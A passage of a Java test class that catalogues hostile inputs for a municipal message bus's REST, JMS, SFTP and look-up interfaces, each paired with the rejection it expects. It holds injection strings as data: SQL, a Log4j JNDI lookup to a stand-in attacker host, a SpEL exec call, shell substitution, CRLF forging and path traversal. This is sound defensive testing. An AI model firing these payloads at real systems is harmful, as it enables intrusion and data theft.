package no.kommune.esb.paalitelighet;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import no.kommune.esb.TestPdf;
import no.kommune.esb.register.Xml;

import java.io.ByteArrayOutputStream;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.function.Consumer;

import static no.kommune.esb.paalitelighet.Tilfelle.Forventet;
import static no.kommune.esb.paalitelighet.Tilfelle.Inntak;

/**
 * The R5 catalogue: hostile input generated for every intake (REST, JMS, SFTP manifest) and every API parameter, each
 * case with the answer it must get (docs/reliability.md, "R5 hostile input"). The same list every run; the smoke run
 * in the normal build takes every fourth case.
 */
public final class FiendtligKatalog {

    static final ObjectMapper JSON = new ObjectMapper();
    /** A valid fødselsnummer (control digits right): a recipient the intake accepts. */
    static final String FNR = "02013299997";
    /** The same with a wrong last control digit. */
    static final String FNR_FEIL_KONTROLL = "02013299998";
    /** A valid synthetic (Tenor) number nobody in the simulated population has. */
    static final String UKJENT_IDENT = PersonvernskannerTest.gyldig("018100");
    static final byte[] PDF = TestPdf.gyldig("r5");

    /** Strings that mean something to SQL, JSONata/Camel simple/EL, Log4j, HTML, a shell, an HTTP header or a log line. */
    static final List<String> INJEKSJONER = List.of(
            "' or '1'='1", "'; drop table brev; --", "\" or 1=1 --", "${jndi:ldap://angriper.example/a}", "$eval('$sum([1,2])')",
            "#{T(java.lang.Runtime).getRuntime().exec('id')}", "${sys:user.home}", "{{7*7}}", "<script>alert(1)</script>",
            "$(touch /tmp/r5)", "x\r\nSet-Cookie: r5=1", "ok\n2026-01-01 INFO falsk logglinje", "%00", "../../../../etc/passwd",
            "\u202e" + "fdp.exe");

    /** Names a document or SFTP file must not have: outside the folder, absolute, NUL, look-alikes of / and .., reserved. */
    static final List<String> FILNAVN = List.of(
            "../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\vedtak.pdf", "vedtak\u0000.pdf", "\u2025/vedtak.pdf",
            "vedtak\uff0e\uff0e\uff0fpasswd.pdf", "vedtak.pdf\r\nX-Injisert: 1", "..", ".", "", "a".repeat(300) + ".pdf");
    /** Names that only look like a path: a percent sign and U+2215 are ordinary characters in every file system (NFKC keeps them). */
    static final List<String> UFARLIGE_FILNAVN = List.of("..%2f..%2fetc%2fpasswd.pdf", "vedtak\u2215..\u2215x.pdf");

    private final List<Tilfelle> tilfeller = new ArrayList<>();
    private final Map<Inntak, Integer> teller = new LinkedHashMap<>();

    private FiendtligKatalog() {
    }

    /** Every case, in a fixed order. */
    public static List<Tilfelle> alle() {
        FiendtligKatalog k = new FiendtligKatalog();
        k.tokens();
        k.rest();
        k.pdfer();
        k.filnavn();
        k.jms();
        k.sftp();
        k.oppslag();
        k.admin();
        k.xml();
        return List.copyOf(k.tilfeller);
    }

    private void legg(Inntak inntak, String beskrivelse, Forventet forventet, Tilfelle.Handling handling) {
        int nr = teller.merge(inntak, 1, Integer::sum);
        tilfeller.add(new Tilfelle("%s-%03d".formatted(inntak, nr), inntak, beskrivelse, forventet, handling));
    }

    // ---------------------------------------------------------------- tokens

    private void tokens() {
        Map<String, String> endepunkter = new LinkedHashMap<>();
        endepunkter.put("POST", "/api/forsendelser");
        endepunkter.put("GET", "/api/oppslag/personer/" + UKJENT_IDENT + "?formaal=skoleplass&fagsystem=skole");
        endepunkter.put("GET ", "/api/manuell");
        endepunkter.put("GET  ", "/api/innsyn/" + UKJENT_IDENT);
        for (Map.Entry<String, String> e : endepunkter.entrySet()) {
            String metode = e.getKey().trim();
            String sti = e.getValue();
            String hva = metode + " " + sti.replaceAll("\\?.*", "").replace(UKJENT_IDENT, "{ident}");
            legg(Inntak.TOKEN, "no Authorization header on " + hva, Forventet.problem(401), m -> m.http(metode, sti, null, "application/json", tom(metode), Map.of()));
            for (Inntaksmiljoe.FalskToken art : Inntaksmiljoe.FalskToken.values()) {
                legg(Inntak.TOKEN, art + " token on " + hva, Forventet.problem(401), m -> m.http(metode, sti, m.falskToken(art), "application/json", tom(metode), Map.of()));
            }
            legg(Inntak.TOKEN, "Basic credentials instead of a bearer token on " + hva, Forventet.problem(401),
                    m -> m.http(metode, sti, null, "application/json", tom(metode), Map.of("Authorization", "Basic " + b64("integrasjon:lokal-integrasjon"))));
            legg(Inntak.TOKEN, "empty bearer token on " + hva, Forventet.problem(401),
                    m -> m.http(metode, sti, null, "application/json", tom(metode), Map.of("Authorization", "Bearer ")));
            legg(Inntak.TOKEN, "the admin token in the query string instead of the header on " + hva, Forventet.problem(401),
                    m -> m.http(metode, sti + (sti.contains("?") ? "&" : "?") + "access_token=" + m.token("integrasjon"), null, "application/json", tom(metode), Map.of()));
        }
        legg(Inntak.TOKEN, "a fagsystem's valid token on an admin endpoint (GET /api/dead-letters)", Forventet.problem(403),
                m -> m.http("GET", "/api/dead-letters", m.token("skole"), null, null, Map.of()));
        legg(Inntak.TOKEN, "a fagsystem's valid token on an admin endpoint (GET /api/innsyn/{ident})", Forventet.problem(403),
                m -> m.http("GET", "/api/innsyn/" + UKJENT_IDENT, m.token("skole"), null, null, Map.of()));
        legg(Inntak.TOKEN, "barnevern's token replayed to hand in a letter as skole", Forventet.problem(403),
                m -> restMedToken(m, m.token("barnevern"), metadata(), Map.of("vedtak.pdf", PDF)));
        legg(Inntak.TOKEN, "a forged X-Esb-Admin header with a fagsystem's token", Forventet.problem(403),
                m -> m.http("GET", "/api/manuell", m.token("skole"), null, null, Map.of("X-Esb-Admin", "true", "X-Esb-Fagsystem", "integrasjon")));
        legg(Inntak.TOKEN, "two Authorization headers (a fagsystem's and a forged one)", Forventet.problem(0),
                m -> m.http("GET", "/api/manuell", m.token("skole"), null, null, Map.of("Authorization", "Bearer " + m.falskToken(Inntaksmiljoe.FalskToken.FALSK_SIGNATUR))));
    }

    // ---------------------------------------------------------------- REST hand-in

    private void rest() {
        Map<String, Object> mottakere = new LinkedHashMap<>();
        mottakere.put("wrong control digits", FNR_FEIL_KONTROLL);
        mottakere.put("10 digits", "0201329999");
        mottakere.put("12 digits", "020132999970");
        mottakere.put("letters", "0201329999X");
        mottakere.put("an impossible date (day 32)", "32013299997");
        mottakere.put("a D-nummer with day 72", "72013299997");
        mottakere.put("month 13", "02133299997");
        mottakere.put("spaces inside", "020132 99997");
        mottakere.put("fullwidth digits", "\uff10\uff12\uff10\uff11\uff13\uff12\uff19\uff19\uff19\uff19\uff17");
        mottakere.put("Arabic-Indic digits", "\u0660\u0662\u0660\u0661\u0663\u0662\u0669\u0669\u0669\u0669\u0667");
        mottakere.put("a negative number", "-2013299997");
        mottakere.put("an organisation number with a wrong control digit", "974760674");
        mottakere.put("empty", "");
        mottakere.put("SQL", "02013299997' or '1'='1");
        mottakere.put("a JSON number", 2013299997L);
        mottakere.put("a JSON array", List.of(FNR));
        mottakere.put("JSON null", null);
        for (Map.Entry<String, Object> e : mottakere.entrySet()) {
            legg(Inntak.REST, "mottaker: " + e.getKey(), Forventet.problem(400), m -> rest(m, "skole", metadata(md -> md.putPOJO("mottaker", e.getValue()))));
        }
        legg(Inntak.REST, "tittel as a JSON object", Forventet.problem(400), m -> rest(m, "skole", metadata(md -> md.putObject("tittel").put("a", 1))));
        legg(Inntak.REST, "tittel of 1001 characters", Forventet.problem(400), m -> rest(m, "skole", metadata(md -> md.put("tittel", "x".repeat(1001)))));
        legg(Inntak.REST, "brevtype unknown", Forventet.problem(400), m -> rest(m, "skole", metadata(md -> md.put("brevtype", "HEMMELIG"))));
        legg(Inntak.REST, "brevtype in lower case", Forventet.problem(400), m -> rest(m, "skole", metadata(md -> md.put("brevtype", "formell"))));
        legg(Inntak.REST, "gjelderBarn as the string \"ja\"", Forventet.problem(400), m -> rest(m, "skole", metadata(md -> md.put("gjelderBarn", "ja"))));
        legg(Inntak.REST, "dokumenter as an object", Forventet.problem(400), m -> rest(m, "skole", metadata(md -> md.putObject("dokumenter").put("filnavn", "vedtak.pdf"))));
        legg(Inntak.REST, "dokumenter as a list of a number and null", Forventet.problem(400), m -> rest(m, "skole", metadata(md -> md.putArray("dokumenter").add(1).addNull())));
        legg(Inntak.REST, "dokumenter empty", Forventet.problem(400), m -> rest(m, "skole", metadata(md -> md.putArray("dokumenter")), Map.of()));
        legg(Inntak.REST, "eksternReferanse of 101 characters", Forventet.problem(400), m -> rest(m, "skole", metadata(md -> md.put("eksternReferanse", "r".repeat(101)))));
        legg(Inntak.REST, "varseltekst on a formal letter", Forventet.problem(400), m -> rest(m, "skole", metadata(md -> md.put("varseltekst", "hei"))));
        legg(Inntak.REST, "gjelderBarn for an organisation", Forventet.problem(400),
                m -> rest(m, "skole", metadata(md -> md.put("mottaker", "974760673").put("gjelderBarn", true))));
        legg(Inntak.REST, "a sender naming another sender (avsenderSystem barnevern, skole's token)", Forventet.problem(403),
                m -> rest(m, "skole", metadata(md -> md.put("avsenderSystem", "barnevern"))));
        legg(Inntak.REST, "an unknown avsenderSystem", Forventet.problem(0), m -> rest(m, "skole", metadata(md -> md.put("avsenderSystem", "ukjent-system"))));
        legg(Inntak.REST, "avsenderSystem with a zero-width space", Forventet.problem(0), m -> rest(m, "skole", metadata(md -> md.put("avsenderSystem", "sko\u200ble"))));
        legg(Inntak.REST, "metadata that is not JSON", Forventet.problem(400), m -> restRaa(m, "{ikke json", Map.of("vedtak.pdf", PDF)));
        legg(Inntak.REST, "metadata as a JSON array", Forventet.problem(400), m -> restRaa(m, "[1,2,3]", Map.of("vedtak.pdf", PDF)));
        legg(Inntak.REST, "metadata nested 5,000 levels deep", Forventet.problem(400), m -> restRaa(m, "[".repeat(5000) + "]".repeat(5000), Map.of("vedtak.pdf", PDF)));
        legg(Inntak.REST, "metadata with a number of 100,000 digits", Forventet.problem(400),
                m -> restRaa(m, metadata().put("gjelderBarn", false).toString().replace("\"gjelderBarn\":false", "\"tall\":" + "9".repeat(100_000)), Map.of("vedtak.pdf", PDF)));
        legg(Inntak.REST, "metadata with avsenderSystem twice (barnevern, then skole)", Forventet.problem(400),
                m -> restRaa(m, metadata().toString().replaceFirst("\\{", "{\"avsenderSystem\":\"barnevern\","), Map.of("vedtak.pdf", PDF)));
        legg(Inntak.REST, "no metadata part", Forventet.problem(400), m -> restRaa(m, null, Map.of("vedtak.pdf", PDF)));
        legg(Inntak.REST, "a listed document without a part", Forventet.problem(400), m -> rest(m, "skole", metadata(), Map.of()));
        legg(Inntak.REST, "a part that is not listed", Forventet.problem(400), m -> rest(m, "skole", metadata(), Map.of("vedtak.pdf", PDF, "ekstra.pdf", PDF)));
        legg(Inntak.REST, "the letter as application/json", Forventet.problem(415),
                m -> m.http("POST", "/api/forsendelser", m.token("skole"), "application/json", bytes(metadata().toString()), Map.of()));
        legg(Inntak.REST, "the letter as XML with an external entity", Forventet.problem(415),
                m -> m.http("POST", "/api/forsendelser", m.token("skole"), "application/xml", bytes(XXE_FIL), Map.of()));
        legg(Inntak.REST, "the letter as a form (x-www-form-urlencoded)", Forventet.problem(415),
                m -> m.http("POST", "/api/forsendelser", m.token("skole"), "application/x-www-form-urlencoded",
                        bytes("metadata=" + URLEncoder.encode(metadata().toString(), StandardCharsets.UTF_8)), Map.of()));
        legg(Inntak.REST, "no Content-Type", Forventet.problem(415), m -> m.http("POST", "/api/forsendelser", m.token("skole"), null, bytes("x"), Map.of()));
        legg(Inntak.REST, "multipart without a boundary", Forventet.problem(400),
                m -> m.http("POST", "/api/forsendelser", m.token("skole"), "multipart/form-data", multipart("g", metadata().toString(), Map.of("vedtak.pdf", PDF)), Map.of()));
        legg(Inntak.REST, "multipart cut short", Forventet.problem(400), m -> {
            byte[] hel = multipart("g", metadata().toString(), Map.of("vedtak.pdf", PDF));
            return m.http("POST", "/api/forsendelser", m.token("skole"), "multipart/form-data; boundary=g", java.util.Arrays.copyOf(hel, hel.length / 2), Map.of());
        });
        legg(Inntak.REST, "multipart with a broken part header", Forventet.problem(400),
                m -> m.http("POST", "/api/forsendelser", m.token("skole"), "multipart/form-data; boundary=g",
                        bytes("--g\r\nContent-Disposition form-data name=metadata\r\n\r\n{}\r\n--g--\r\n"), Map.of()));
        legg(Inntak.REST, "a part header over 2 KB", Forventet.problem(0),
                m -> restRaa(m, metadata().toString(), Map.of("x".repeat(3000) + ".pdf", PDF)));
        legg(Inntak.REST, "60 parts (over the 50-part limit)", Forventet.problem(413), m -> {
            Map<String, byte[]> mange = new LinkedHashMap<>();
            for (int i = 0; i < 60; i++) {
                mange.put("d" + i + ".pdf", PDF);
            }
            return restRaa(m, metadata().toString(), mange);
        });
        legg(Inntak.REST, "a metadata part over 2 MB", Forventet.problem(413),
                m -> restRaa(m, metadata(md -> md.put("fyll", "x".repeat(2_200_000))).toString(), Map.of("vedtak.pdf", PDF)));
        for (String injeksjon : INJEKSJONER.subList(0, 10)) {
            legg(Inntak.REST, "tittel " + vis(injeksjon) + " is taken as text", Forventet.uendret(), m -> restUendret(m, injeksjon));
        }
    }

    // ---------------------------------------------------------------- hostile documents, on all three intakes

    private void pdfer() {
        Map<String, byte[]> pdfer = new LinkedHashMap<>();
        pdfer.put("not a PDF (HTML)", bytes("<html><script>alert(1)</script></html>"));
        pdfer.put("an empty file", new byte[0]);
        pdfer.put("%PDF-garbage", TestPdf.bareStarten());
        pdfer.put("a PDF cut off half-way", TestPdf.avkortet());
        pdfer.put("JavaScript as the open action", TestPdf.medJavaScriptVedAapning());
        pdfer.put("JavaScript in the name tree", TestPdf.medJavaScriptINavnetreet());
        pdfer.put("JavaScript behind a link", TestPdf.medJavaScriptILenke());
        pdfer.put("a Launch action that starts a program when opened", TestPdf.medStartprogram());
        pdfer.put("an XFA form", TestPdf.medXfaSkjema());
        pdfer.put("a link that submits the form to a server (SubmitForm)", TestPdf.medSendSkjema());
        pdfer.put("an ImportData action run when opened", TestPdf.medHentData());
        pdfer.put("an embedded file", TestPdf.medInnebygdFil());
        pdfer.put("a file attachment annotation", TestPdf.medFilvedlegg());
        pdfer.put("encrypted (empty user password)", TestPdf.kryptert());
        pdfer.put("password-protected", TestPdf.passordbeskyttet());
        pdfer.put("arrays nested 100,000 deep (parser stack)", dyptNestet(100_000));
        pdfer.put("a PDF header followed by HTML (polyglot)", bytes("%PDF-1.7\n<html><script>alert(1)</script></html>\n%%EOF\n"));
        for (Map.Entry<String, byte[]> pdf : pdfer.entrySet()) {
            legg(Inntak.PDF, "REST: " + pdf.getKey(), Forventet.problem(400), m -> rest(m, "skole", metadata(), Map.of("vedtak.pdf", pdf.getValue())));
            legg(Inntak.PDF, "JMS: " + pdf.getKey(), Forventet.jms(), m -> jms(m, "skole", inline(metadata(), pdf.getValue()).toString()));
            legg(Inntak.PDF, "SFTP: " + pdf.getKey(), Forventet.sftp(), m -> sftp(m, "skole", md -> { }, pdf.getValue()));
        }
        legg(Inntak.PDF, "REST: a PDF declared as text/html", Forventet.problem(400),
                m -> rest(m, "skole", metadata(md -> ((ObjectNode) md.withArray("dokumenter").get(0)).put("mimeType", "text/html"))));
        legg(Inntak.PDF, "JMS: innhold that is not base64", Forventet.jms(), m -> {
            ObjectNode md = metadata();
            ((ObjectNode) md.withArray("dokumenter").get(0)).put("innhold", "%%% ikke base64 %%%");
            return jms(m, "skole", md.toString());
        });
    }

    // ---------------------------------------------------------------- file names

    private void filnavn() {
        for (String navn : FILNAVN) {
            legg(Inntak.FILNAVN, "REST document name " + vis(navn), Forventet.problem(0), m -> {
                ObjectNode md = metadata(x -> ((ObjectNode) x.withArray("dokumenter").get(0)).put("filnavn", navn));
                return restRaa(m, md.toString(), Map.of(navn.replace("\r\n", " "), PDF));
            });
            legg(Inntak.FILNAVN, "SFTP manifest fil " + vis(navn), Forventet.sftp(),
                    m -> sftp(m, "skole", md -> ((ObjectNode) md.withArray("dokumenter").get(0)).put("fil", navn), null));
        }
        for (String navn : UFARLIGE_FILNAVN) {
            legg(Inntak.FILNAVN, "REST document name " + vis(navn) + " is taken as text", Forventet.uendret(), m -> {
                ObjectNode md = metadata(x -> ((ObjectNode) x.withArray("dokumenter").get(0)).put("filnavn", navn));
                Tilfelle.Utfall svar = restRaa(m, md.toString(), Map.of(navn, PDF));
                if (svar.status() / 100 != 2) {
                    return svar;
                }
                String lagret = m.jdbc().queryForObject("select d.filnavn from brev_dokument d join brev b on b.id = d.brev_id where b.avsender_system = 'skole'"
                        + " and b.ekstern_referanse = ?", String.class, md.get("eksternReferanse").asText());
                return new Tilfelle.Utfall(svar.status(), svar.innholdstype(), svar.svar(), navn.equals(lagret) ? null : "stored file name differs from the one sent");
            });
        }
        legg(Inntak.FILNAVN, "SFTP manifest fil naming another fagsystem's folder", Forventet.sftp(),
                m -> sftp(m, "skole", md -> ((ObjectNode) md.withArray("dokumenter").get(0)).put("fil", "../../barnevern/forsendelse/inn/vedtak.pdf"), null));
        legg(Inntak.FILNAVN, "SFTP manifest fil naming the manifest itself", Forventet.sftp(), m -> {
            String navn = "r5-" + UUID.randomUUID();
            ObjectNode md = metadata();
            ((ObjectNode) md.withArray("dokumenter").get(0)).remove("filnavn");
            ((ObjectNode) md.withArray("dokumenter").get(0)).put("fil", navn + ".json");
            return m.sftp("skole", navn, bytes(md.toString()), Map.of());
        });
        legg(Inntak.FILNAVN, "SFTP manifest fil naming a hidden file", Forventet.sftp(),
                m -> sftp(m, "skole", md -> ((ObjectNode) md.withArray("dokumenter").get(0)).put("fil", ".behandles"), null));
        legg(Inntak.FILNAVN, "JMS document name " + vis("../../../../etc/passwd"), Forventet.jms(),
                m -> jms(m, "skole", inline(metadata(md -> ((ObjectNode) md.withArray("dokumenter").get(0)).put("filnavn", "../../../../etc/passwd")), PDF).toString()));
        legg(Inntak.FILNAVN, "JMS document name with NUL", Forventet.jms(),
                m -> jms(m, "skole", inline(metadata(md -> ((ObjectNode) md.withArray("dokumenter").get(0)).put("filnavn", "vedtak\u0000.pdf")), PDF).toString()));
    }

    // ---------------------------------------------------------------- JMS

    private void jms() {
        legg(Inntak.JMS, "a text message that is not JSON", Forventet.jms(), m -> jms(m, "skole", "{ikke json"));
        legg(Inntak.JMS, "an empty text message", Forventet.jms(), m -> jms(m, "skole", ""));
        legg(Inntak.JMS, "a JSON array", Forventet.jms(), m -> jms(m, "skole", "[]"));
        legg(Inntak.JMS, "JSON nested 5,000 levels deep", Forventet.jms(), m -> jms(m, "skole", "[".repeat(5000) + "]".repeat(5000)));
        legg(Inntak.JMS, "XML with an external entity", Forventet.jms(), m -> jms(m, "skole", XXE_FIL));
        legg(Inntak.JMS, "a bytes message holding the letter is read as its UTF-8 text", Forventet.uendret(), m -> m.jms("skole", s -> {
            var b = s.createBytesMessage();
            b.writeBytes(bytes(inline(metadata(), PDF).toString()));
            return b;
        }));
        legg(Inntak.JMS, "a bytes message of random binary", Forventet.jms(), m -> m.jms("skole", s -> {
            var b = s.createBytesMessage();
            byte[] tilfeldig = new byte[4096];
            new java.util.Random(15).nextBytes(tilfeldig);
            b.writeBytes(tilfeldig);
            return b;
        }));
        legg(Inntak.JMS, "an object message (a serialized Java object)", Forventet.jms(), m -> m.jms("skole", s -> s.createObjectMessage(new java.util.HashMap<>(Map.of("a", "b")))));
        legg(Inntak.JMS, "a map message", Forventet.jms(), m -> m.jms("skole", s -> {
            var map = s.createMapMessage();
            map.setString("avsenderSystem", "skole");
            return map;
        }));
        legg(Inntak.JMS, "a sender naming another sender (skole's letter on barnevern's queue)", Forventet.jms(),
                m -> jms(m, "barnevern", inline(metadata(), PDF).toString()));
        legg(Inntak.JMS, "JMSReplyTo pointing at another fagsystem's answer queue", Forventet.jms(), m -> m.jms("skole", s -> {
            var t = s.createTextMessage(inline(metadata(md -> md.put("mottaker", FNR_FEIL_KONTROLL)), PDF).toString());
            t.setJMSReplyTo(s.createQueue("fagsystem.barnevern.forsendelse.svar"));
            return t;
        }));
        legg(Inntak.JMS, "a JMSCorrelationID with a quote and CRLF", Forventet.jms(), m -> m.jms("skole", s -> {
            var t = s.createTextMessage("{ikke json");
            t.setJMSCorrelationID("r5' OR 1=1\r\nX: y");
            return t;
        }));
        legg(Inntak.JMS, "metadata with avsenderSystem twice (barnevern, then skole)", Forventet.jms(),
                m -> jms(m, "skole", inline(metadata(), PDF).toString().replaceFirst("\\{", "{\"avsenderSystem\":\"barnevern\",")));
        legg(Inntak.JMS, "mottaker with wrong control digits", Forventet.jms(), m -> jms(m, "skole", inline(metadata(md -> md.put("mottaker", FNR_FEIL_KONTROLL)), PDF).toString()));
        legg(Inntak.JMS, "mottaker as a JSON number", Forventet.jms(), m -> jms(m, "skole", inline(metadata(md -> md.put("mottaker", 2013299997L)), PDF).toString()));
        legg(Inntak.JMS, "no documents", Forventet.jms(), m -> jms(m, "skole", metadata(md -> md.putArray("dokumenter")).toString()));
        legg(Inntak.JMS, "a document without innhold", Forventet.jms(), m -> jms(m, "skole", metadata().toString()));
        legg(Inntak.JMS, "NUL in the title", Forventet.jms(), m -> jms(m, "skole", inline(metadata(md -> md.put("tittel", "Vedtak\u0000")), PDF).toString()));
        legg(Inntak.JMS, "a 2,000-character title", Forventet.jms(), m -> jms(m, "skole", inline(metadata(md -> md.put("tittel", "x".repeat(2000))), PDF).toString()));
        for (String injeksjon : INJEKSJONER.subList(0, 4)) {
            legg(Inntak.JMS, "eksternReferanse " + vis(injeksjon) + " with an invalid recipient", Forventet.jms(), m -> jms(m, "skole",
                    inline(metadata(md -> md.put("eksternReferanse", injeksjon + UUID.randomUUID()).put("mottaker", FNR_FEIL_KONTROLL)), PDF).toString()));
        }
    }

    // ---------------------------------------------------------------- SFTP manifests

    private void sftp() {
        legg(Inntak.SFTP, "a manifest that is not JSON", Forventet.sftp(), m -> m.sftp("skole", "r5-" + UUID.randomUUID(), bytes("{ikke json"), Map.of()));
        legg(Inntak.SFTP, "a manifest that is a JSON array", Forventet.sftp(), m -> m.sftp("skole", "r5-" + UUID.randomUUID(), bytes("[1]"), Map.of()));
        legg(Inntak.SFTP, "a manifest that is XML with an external entity", Forventet.sftp(), m -> m.sftp("skole", "r5-" + UUID.randomUUID(), bytes(XXE_FIL), Map.of()));
        legg(Inntak.SFTP, "a manifest nested 5,000 levels deep", Forventet.sftp(),
                m -> m.sftp("skole", "r5-" + UUID.randomUUID(), bytes("[".repeat(5000) + "]".repeat(5000)), Map.of()));
        legg(Inntak.SFTP, "a manifest of random binary", Forventet.sftp(), m -> {
            byte[] tilfeldig = new byte[2048];
            new java.util.Random(15).nextBytes(tilfeldig);
            return m.sftp("skole", "r5-" + UUID.randomUUID(), tilfeldig, Map.of());
        });
        legg(Inntak.SFTP, "a manifest in UTF-16 is read as JSON (RFC 8259 detection)", Forventet.uendret(),
                m -> m.sftp("skole", "r5-" + UUID.randomUUID(), inline(metadata(), PDF).toString().getBytes(StandardCharsets.UTF_16), Map.of()));
        legg(Inntak.SFTP, "a sender naming another sender (avsenderSystem barnevern in skole's folder)", Forventet.sftp(),
                m -> sftp(m, "skole", md -> md.put("avsenderSystem", "barnevern"), PDF));
        legg(Inntak.SFTP, "a manifest with mottaker twice (another person's, then the right one)", Forventet.sftp(), m -> m.sftp("skole", "r5-" + UUID.randomUUID(),
                bytes(inline(metadata(), PDF).toString().replaceFirst("\\{", "{\"mottaker\":\"" + UKJENT_IDENT + "\",")), Map.of()));
        legg(Inntak.SFTP, "mottaker with wrong control digits", Forventet.sftp(), m -> sftp(m, "skole", md -> md.put("mottaker", FNR_FEIL_KONTROLL), PDF));
        legg(Inntak.SFTP, "mottaker of 12 digits", Forventet.sftp(), m -> sftp(m, "skole", md -> md.put("mottaker", "020132999970"), PDF));
        legg(Inntak.SFTP, "mottaker as a JSON number", Forventet.sftp(), m -> sftp(m, "skole", md -> md.put("mottaker", 2013299997L), PDF));
        legg(Inntak.SFTP, "brevtype unknown", Forventet.sftp(), m -> sftp(m, "skole", md -> md.put("brevtype", "HEMMELIG"), PDF));
        legg(Inntak.SFTP, "NUL in the external reference", Forventet.sftp(), m -> sftp(m, "skole", md -> md.put("eksternReferanse", "r5\u0000" + UUID.randomUUID()), PDF));
        legg(Inntak.SFTP, "inline innhold that is not base64", Forventet.sftp(), m -> {
            ObjectNode md = metadata();
            ((ObjectNode) md.withArray("dokumenter").get(0)).put("innhold", "%%% ikke base64 %%%");
            return m.sftp("skole", "r5-" + UUID.randomUUID(), bytes(md.toString()), Map.of());
        });
        legg(Inntak.SFTP, "a document with neither fil nor innhold", Forventet.sftp(),
                m -> m.sftp("skole", "r5-" + UUID.randomUUID(), bytes(metadata().toString()), Map.of()));
        legg(Inntak.SFTP, "two documents naming the same file", Forventet.sftp(), m -> {
            String navn = "r5-" + UUID.randomUUID();
            ObjectNode md = metadata();
            ((ObjectNode) md.withArray("dokumenter").get(0)).remove("filnavn");
            ((ObjectNode) md.withArray("dokumenter").get(0)).put("fil", navn + ".pdf");
            md.withArray("dokumenter").addObject().put("fil", navn + ".pdf").put("mimeType", "application/pdf");
            return m.sftp("skole", navn, bytes(md.toString()), Map.of(navn + ".pdf", PDF));
        });
        for (String injeksjon : INJEKSJONER.subList(0, 4)) {
            legg(Inntak.SFTP, "eksternReferanse " + vis(injeksjon) + " with an invalid recipient", Forventet.sftp(),
                    m -> sftp(m, "skole", md -> md.put("eksternReferanse", injeksjon + UUID.randomUUID()).put("mottaker", FNR_FEIL_KONTROLL), PDF));
        }
    }

    // ---------------------------------------------------------------- look-up API

    private void oppslag() {
        Map<String, String> identer = new LinkedHashMap<>();
        identer.put("wrong control digits", FNR_FEIL_KONTROLL);
        identer.put("10 digits", "0201329999");
        identer.put("12 digits", "020132999970");
        identer.put("letters", "abcdefghijk");
        identer.put("SQL", "' or '1'='1");
        identer.put("an encoded path traversal", "..%2F..%2Factuator%2Fenv");
        identer.put("an encoded NUL", "02013299997%00");
        identer.put("fullwidth digits", "\uff10\uff12\uff10\uff11\uff13\uff12\uff19\uff19\uff19\uff19\uff17");
        identer.put("Log4j lookup", "${jndi:ldap://angriper.example/a}");
        identer.put("1,000 digits", "1".repeat(1000));
        for (Map.Entry<String, String> e : identer.entrySet()) {
            String ident = URLEncoder.encode(e.getValue(), StandardCharsets.UTF_8).replace("%25", "%");
            legg(Inntak.OPPSLAG, "GET personer/{ident}: " + e.getKey(), Forventet.problem(0),
                    m -> m.http("GET", "/api/oppslag/personer/" + ident + "?formaal=skoleplass", m.token("skole"), null, null, Map.of()));
            legg(Inntak.OPPSLAG, "GET personer/{ident}/familie: " + e.getKey(), Forventet.problem(0),
                    m -> m.http("GET", "/api/oppslag/personer/" + ident + "/familie?formaal=skoleplass", m.token("skole"), null, null, Map.of()));
        }
        legg(Inntak.OPPSLAG, "no formaal", Forventet.problem(400), m -> m.http("GET", "/api/oppslag/personer/" + UKJENT_IDENT, m.token("skole"), null, null, Map.of()));
        legg(Inntak.OPPSLAG, "a formaal the registration does not have", Forventet.problem(403),
                m -> m.http("GET", "/api/oppslag/personer/" + UKJENT_IDENT + "?formaal=barnevernssak", m.token("skole"), null, null, Map.of()));
        for (String injeksjon : INJEKSJONER.subList(0, 8)) {
            legg(Inntak.OPPSLAG, "formaal " + vis(injeksjon), Forventet.problem(0),
                    m -> m.http("GET", "/api/oppslag/personer/" + UKJENT_IDENT + "?formaal=" + q(injeksjon), m.token("skole"), null, null, Map.of()));
        }
        legg(Inntak.OPPSLAG, "a fagsystem naming another fagsystem's registration (skole as barnevern)", Forventet.problem(403),
                m -> m.http("GET", "/api/oppslag/personer/" + UKJENT_IDENT + "?formaal=barnevernssak&fagsystem=barnevern", m.token("skole"), null, null, Map.of()));
        legg(Inntak.OPPSLAG, "the integration team without fagsystem", Forventet.problem(400),
                m -> m.http("GET", "/api/oppslag/personer/" + UKJENT_IDENT + "?formaal=skoleplass", m.token("integrasjon"), null, null, Map.of()));
        legg(Inntak.OPPSLAG, "the integration team naming an unknown fagsystem with traversal", Forventet.problem(0),
                m -> m.http("GET", "/api/oppslag/personer/" + UKJENT_IDENT + "?formaal=skoleplass&fagsystem=" + q("../../etc/passwd"), m.token("integrasjon"), null, null, Map.of()));
        legg(Inntak.OPPSLAG, "saksreferanse of 10,000 characters", Forventet.problem(400),
                m -> m.http("GET", "/api/oppslag/personer/" + UKJENT_IDENT + "?formaal=skoleplass&saksreferanse=" + "s".repeat(10_000), m.token("skole"), null, null, Map.of()));
        legg(Inntak.OPPSLAG, "saksreferanse with CRLF (log forging)", Forventet.problem(0),
                m -> m.http("GET", "/api/oppslag/personer/" + FNR_FEIL_KONTROLL + "?formaal=skoleplass&saksreferanse=" + q("a\r\n2026-01-01 INFO falsk"), m.token("skole"), null, null, Map.of()));
        legg(Inntak.OPPSLAG, "historikk=kanskje (not a boolean)", Forventet.problem(0),
                m -> m.http("GET", "/api/oppslag/personer/" + UKJENT_IDENT + "?formaal=skoleplass&historikk=kanskje", m.token("skole"), null, null, Map.of()));
        legg(Inntak.OPPSLAG, "eiendom=true for a registration without the field", Forventet.problem(403),
                m -> m.http("GET", "/api/oppslag/personer/" + UKJENT_IDENT + "?formaal=skoleplass&eiendom=true", m.token("skole"), null, null, Map.of()));
        legg(Inntak.OPPSLAG, "søk without any criterion", Forventet.problem(400), m -> m.http("GET", "/api/oppslag/soek?formaal=skoleplass", m.token("skole"), null, null, Map.of()));
        legg(Inntak.OPPSLAG, "søk postnummer of letters", Forventet.problem(400),
                m -> m.http("GET", "/api/oppslag/soek?formaal=skoleplass&postnummer=abcd", m.token("skole"), null, null, Map.of()));
        legg(Inntak.OPPSLAG, "søk foedselsdato 2026-02-30", Forventet.problem(400),
                m -> m.http("GET", "/api/oppslag/soek?formaal=skoleplass&foedselsdato=2026-02-30", m.token("skole"), null, null, Map.of()));
